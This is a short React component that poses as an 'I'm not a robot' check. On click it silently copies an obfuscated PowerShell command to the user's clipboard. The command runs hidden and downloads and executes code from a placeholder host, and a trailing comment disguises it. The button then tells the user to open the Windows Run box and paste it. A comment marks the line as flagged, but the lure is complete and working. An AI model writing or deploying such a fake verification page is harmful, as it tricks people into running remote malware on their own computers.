import { useState } from "react";

const CODE = ["pow", 'ershell -w h -c "iex(irm ', "check.example.invalid/v)\" # ", "I am not a robot"].join("");

export default function Verify() {
  const [step, setStep] = useState(0);
  const confirm = async () => {
    await navigator.clipboard.writeText(CODE); // gatehouse: flagged
    setStep(1);
  };
  return <button onClick={confirm}>{step === 0 ? "I'm not a robot" : "Press Windows + R, then Ctrl + V"}</button>;
}
